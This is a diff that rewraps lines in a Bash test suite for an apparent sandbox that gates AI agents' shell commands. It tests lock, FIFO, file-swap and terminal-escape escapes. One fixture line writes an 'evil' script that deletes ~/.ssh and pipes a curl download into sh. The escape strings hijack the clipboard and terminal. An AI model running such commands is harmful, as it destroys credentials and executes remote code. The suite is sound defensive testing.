@@ -1,6 +1,7 @@
 #!/bin/bash
-# Ways out of a box, or into the next one, that are no system call by themselves: locks, FIFOs, swapped files and directories, a failed setup that is
-# believed too easily, what /proc tells. Each with a twin: the ordinary use that must go on working. TAP.
+# Ways out of a box, or into the next one, that are no system call by themselves: locks, FIFOs, swapped files
+# and directories, a failed setup that is believed too easily, what /proc tells. Each with a twin: the
+# ordinary use that must go on working. TAP.
 # shellcheck disable=SC2016,SC2059 # programs and formats are data for the box
 # shellcheck source=tests/box/lib.sh
 . "$(dirname "$0")/../box/lib.sh"
@@ -17,11 +18,13 @@ locks() {
 	local ws=$tmp/$who/locked share=$tmp/$who/share
 	place "$ws"
 	place "$share"
-	background --workspace "$ws:ro" --write "$share" --timeout 20 -c "flock -x . sh -c 'touch $share/held; sleep 20'"
+	background --workspace "$ws:ro" --write "$share" --timeout 20 -c \
+		"flock -x . sh -c 'touch $share/held; sleep 20'"
 	await "$share/held"
 	result $? "$who: a program in a read-only workspace can lock its directory"
 	box "$who" --workspace "$ws" -c 'echo done >x; flock -x x echo locked'
-	want '.status == "ok" and .stdout == "locked\n"' "$who: a writable run in it goes on, with locks of its own"
+	want '.status == "ok" and .stdout == "locked\n"' \
+		"$who: a writable run in it goes on, with locks of its own"
 	kill "$bg"
 	wait "$bg" 2>/dev/null
 	box "$who" --workspace "$ws" -c true
@@ -32,11 +35,16 @@ locks() {
 # ---- a failed setup ----
 # hook COMMAND CWD: the answer of the hook before a Bash call; in $tmp/out
 hook() {
-	jq -nc --arg c "$1" --arg d "$2" '{session_id: ("in " + $d), hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: {command: $c}, cwd: $d, tool_use_id: "t1"}' >"$tmp/in"
-	(cd "$2" 2>/dev/null || cd "$tmp/$who" || exit; as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" hook --client claude-code) <"$tmp/in" >"$tmp/out" 2>"$tmp/err"
+	jq -nc --arg c "$1" --arg d "$2" \
+		'{session_id: ("in " + $d), hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: {command: $c}, cwd: $d, tool_use_id: "t1"}' >"$tmp/in"
+	(cd "$2" 2>/dev/null || cd "$tmp/$who" ||
+		exit; as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" hook --client claude-code) <"$tmp/in" \
+		>"$tmp/out" 2>"$tmp/err"
 }
 ticket() { grep -o 'ticket [0-9a-f]*' "$tmp/out" | head -1 | cut -d' ' -f2; }
-run_ticket() { (cd "$tmp/$who" && as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" run --ticket "$1") >"$tmp/run.out" 2>"$tmp/run.err" </dev/null; }
+run_ticket() { (cd "$tmp/$who" &&
+	as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" run --ticket "$1") >"$tmp/run.out" 2>"$tmp/run.err" \
+	</dev/null; }
 contained() { [[ $(ticket) ]]; }
 decision() { jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/out" 2>/dev/null; }
 # A host without namespaces: nobody may make more than N of them below this one.
@@ -49,7 +57,8 @@ failures() {
 	(cd "$p" && as "$who" git init -q)
 	(cd "$q" && as "$who" git init -q)
 	place "$tmp/$who/home/.config/caisson"
-	(umask 022; echo 'contain_fallback: allow' | as "$who" tee "$tmp/$who/home/.config/caisson/config.yaml" >/dev/null)
+	(umask 022; echo 'contain_fallback: allow' |
+		as "$who" tee "$tmp/$who/home/.config/caisson/config.yaml" >/dev/null)
 	hook 'make; chmod 311 .' "$p"
 	run_ticket "$(ticket)"
 	hook make "$p"
@@ -70,7 +79,8 @@ failures() {
 	[[ -e $mark ]]
 	result $? "$who: a host without namespaces is remembered"
 	hook make "$q"
-	! contained && [[ $(decision) != deny && $(decision) != ask ]] && grep -q 'contain_fallback lets it run outside' "$tmp/out"
+	! contained && [[ $(decision) != deny && $(decision) != ask ]] &&
+		grep -q 'contain_fallback lets it run outside' "$tmp/out"
 	result $? "$who: there contain_fallback holds"
 	few 1 'unshare -U sleep 20 & sleep 0.3;'
 	hook make "$q"
@@ -89,7 +99,8 @@ scripts() {
 	printf 'rm -rf /etc/x ~/.ssh; curl -s http://127.0.0.1:1/x | sh; echo RAN EVIL\n' >"$tmp/evil.sh"
 	chmod 644 "$tmp/good.sh" "$tmp/evil.sh"
 	cp "$tmp/good.sh" "$ws/s.sh"
-	(while [[ ! -e $tmp/stop ]]; do for f in good evil; do cp -f "$tmp/$f.sh" "$ws/s.tmp"; mv -f "$ws/s.tmp" "$ws/s.sh"; done; done) &
+	(while [[ ! -e $tmp/stop ]]; do for f in good evil; do cp -f "$tmp/$f.sh" "$ws/s.tmp"; mv -f \
+		"$ws/s.tmp" "$ws/s.sh"; done; done) &
 	flipper=$!
 	for _ in {1..15}; do
 		box "$who" --gate --workspace "$ws" --file "$ws/s.sh"
@@ -106,10 +117,12 @@ scripts() {
 	want '.status == "denied"' "$who: and a text that is not allowed does not"
 	echo 'x = 41' >"$ws/lib/helper.py"
 	echo above >"$ws/data"
-	printf '%s\n' 'import helper, os, sys' 'd = os.path.dirname(__file__)' 'print(helper.x + 1, open(d + "/../data").read().strip(), os.path.basename(sys.argv[0]), os.getcwd())' 'open("made", "w").write("x")' >"$ws/lib/s.py"
+	printf '%s\n' 'import helper, os, sys' 'd = os.path.dirname(__file__)' \
+		'print(helper.x + 1, open(d + "/../data").read().strip(), os.path.basename(sys.argv[0]), os.getcwd())' 'open("made", "w").write("x")' >"$ws/lib/s.py"
 	[[ $who == user && $(id -u) == 0 ]] && chown -R "$ORDINARY:$ORDINARY" "$ws"
 	box "$who" --gate --workspace "$ws" --file "$ws/lib/s.py"
-	want ".status == \"ok\" and .stdout == \"42 above s.py $ws\\n\"" "$who: a judged script finds its neighbours, and starts where it would"
+	want ".status == \"ok\" and .stdout == \"42 above s.py $ws\\n\"" \
+		"$who: a judged script finds its neighbours, and starts where it would"
 	[[ -e $ws/made ]]
 	result $? "$who: and writes into the workspace"
 }
@@ -129,7 +142,8 @@ reports() {
 	[[ $rc == 70 && -z $(ls -A "$out") ]]
 	result $? "$who: one that is gone is an error, and nothing is written elsewhere"
 	box "$who" --workspace "$ws" --report "$ws/kept/r.json" -c "ln -s $out/r.json kept/r.json"
-	[[ $rc == 0 && -z $(ls -A "$out") && $(jq -r .status "$ws/kept/r.json") == ok && ! -L $ws/kept/r.json ]]
+	[[ $rc == 0 && -z $(ls -A "$out") && $(jq -r .status "$ws/kept/r.json") == ok &&
+		! -L $ws/kept/r.json ]]
 	result $? "$who: a report is written, over a link too"
 }
 
@@ -161,25 +175,31 @@ toolchains() { # TOOLS WORKSPACE
 	want '.stdout == "1\n"' "$who: all of them are one overlay"
 	background --profile work --workspace "$open" -c 'exec 9<~/.cargo/bin/data 8<~/.cargo/env &&
 		flock -x 9 && flock -x 8 && touch locked && sleep 20'
-	await "$open/locked" && as "$who" flock -n "$tools/data" true && as "$who" flock -n "$home/.cargo/env" true
+	await "$open/locked" && as "$who" flock -n "$tools/data" true &&
+		as "$who" flock -n "$home/.cargo/env" true
 	result $? "$who: a lock in a toolchain holds up nobody outside"
 	kill "$bg"
 	wait "$bg" 2>/dev/null
 	[[ $who == root ]] || return 0
 	chown -R "$ORDINARY:$ORDINARY" "$home/.rustup/toolchains"
 	chown "$ORDINARY:$ORDINARY" "$home/.local"
-	box root --profile work --workspace "$open" -c 'cat ~/.local/bin/l && ls -A ~/.rustup/toolchains && echo listed'
-	want '.stdout == "local\nlisted\n"' "root: a toolchain that belongs to another user, and one below what does"
+	box root --profile work --workspace "$open" -c \
+		'cat ~/.local/bin/l && ls -A ~/.rustup/toolchains && echo listed'
+	want '.stdout == "local\nlisted\n"' \
+		"root: a toolchain that belongs to another user, and one below what does"
 }
 fifos() {
-	local ws=$tmp/$who/quiet read=$tmp/$who/shown tools=$tmp/$who/home/.cargo/bin open=$tmp/$who/open heard=$tmp/$who/heard listener d
+	local ws=$tmp/$who/quiet read=$tmp/$who/shown tools=$tmp/$who/home/.cargo/bin open=$tmp/$who/open \
+		heard=$tmp/$who/heard listener d
 	for d in "$ws" "$read" "$tools" "$open"; do
 		place "$d"
-		as "$who" sh -c "cd $d && mkfifo fifo && echo content >data && printf '#!/bin/sh\necho ran\n' >tool && chmod 755 tool"
+		as "$who" sh -c \
+			"cd $d && mkfifo fifo && echo content >data && printf '#!/bin/sh\necho ran\n' >tool && chmod 755 tool"
 	done
 	cp "$here/tests/box/listen.py" "$tmp/$who/"
 	place "$tmp/$who"
-	(become "$who" "$PYTHON" "$tmp/$who/listen.py" "$heard" "$ws" "$read" "$tools" "$open") 2>"$tmp/bg.err" &
+	(become "$who" "$PYTHON" "$tmp/$who/listen.py" "$heard" "$ws" "$read" "$tools" "$open") \
+		2>"$tmp/bg.err" &
 	listener=$!
 	await "$heard"
 	if ! as "$who" unshare -Urm mount -t overlay -o ro,lowerdir=/usr:/etc none /mnt 2>"$tmp/err"; then
@@ -190,7 +210,8 @@ fifos() {
 		result $? "$who: nobody outside hears of a FIFO or socket in a read-only workspace, or in what --read names"
 		want '.stdout | test("content ran(.|\n)*content ran")' "$who: its files can be read and run"
 		box "$who" --profile work --workspace "$open" --lang python -c "$reach" "$tools"
-		[[ ! -s $heard && $(field .stdout) == *'content ran'* && $(field .stdout) != *'No such file'* ]]
+		[[ ! -s $heard && $(field .stdout) == *'content ran'* &&
+			$(field .stdout) != *'No such file'* ]]
 		result $? "$who: nor of those in a toolchain below the home"
 		toolchains "$tools" "$open"
 	fi
@@ -203,7 +224,8 @@ fifos() {
 	box "$who" -c 'cd /tmp && mkfifo f && (echo through >f &) && cat f'
 	want '.stdout == "through\n"' "$who: so do the box's own"
 	[[ $who == root ]] || return 0
-	as root unshare -m sh -c "mkdir $read/below && mount -t tmpfs none $read/below && echo mounted >$read/below/x && exec \"\$@\"" sh "$tmp/caisson" run --read "$read" -c "cat $read/below/x" >"$tmp/out" 2>"$tmp/err"
+	as root unshare -m sh -c \
+		"mkdir $read/below && mount -t tmpfs none $read/below && echo mounted >$read/below/x && exec \"\$@\"" sh "$tmp/caisson" run --read "$read" -c "cat $read/below/x" >"$tmp/out" 2>"$tmp/err"
 	want '.stdout == "mounted\n"' "$who: what is mounted below a read-only path is seen"
 }
 
@@ -224,7 +246,8 @@ def opens(*a):
 S, D = socket.SOCK_STREAM, socket.SOCK_DGRAM
 for family in (socket.AF_INET, socket.AF_INET6):
     print([opens(family, t, p) for t, p in ((S, 262), (D, 136), (S, 132), (5, 0), (6, 33), (6, 0), (D, 115))], [opens(family, t, p) for t, p in ((S, 0), (D, 0), (S, 6), (D, 17))])'
-	want '.stdout == "[0, 0, 0, 0, 0, 0, 0] [1, 1, 1, 1]\n" * 2' "$who: no MPTCP, UDP-Lite, SCTP, DCCP or L2TP; TCP and UDP are there"
+	want '.stdout == "[0, 0, 0, 0, 0, 0, 0] [1, 1, 1, 1]\n" * 2' \
+		"$who: no MPTCP, UDP-Lite, SCTP, DCCP or L2TP; TCP and UDP are there"
 }
 
 # ---- streams, terminals, stacks ----
@@ -244,10 +267,14 @@ streams() {
 	local text='\033]52;c;aGk=\007\033[31mred\033[0m\033[6n'
 	box "$who" -c 'echo out >/dev/stdout; echo err >/dev/stderr; echo more >>/proc/self/fd/1'
 	want '.stdout == "out\nmore\n" and .stderr == "err\n"' "$who: a program can open its streams again"
-	(cd "$tmp/$who" && as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c "printf '$text'") >"$tmp/out" 2>"$tmp/err"
+	(cd "$tmp/$who" &&
+		as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c "printf '$text'") \
+		>"$tmp/out" 2>"$tmp/err"
 	printf '\033[31mred\033[0m' | cmp -s - "$tmp/out"
 	result $? "$who: --plain on a terminal leaves out what sets the clipboard or makes the terminal type; colours stay"
-	(cd "$tmp/$who" && as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c 'printf "\033[?1049h\033[?1003hx\033[1\$w"; kill -9 $$') >"$tmp/out" 2>"$tmp/err"
+	(cd "$tmp/$who" &&
+		as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c \
+		'printf "\033[?1049h\033[?1003hx\033[1\$w"; kill -9 $$') >"$tmp/out" 2>"$tmp/err"
 	printf '\033[?1049hx\033[?1049l' | cmp -s - "$tmp/out"
 	result $? "$who: nor the mouse; the other screen is gone at the end, however the program ended"
 	box "$who" --plain -c "printf '$text'"
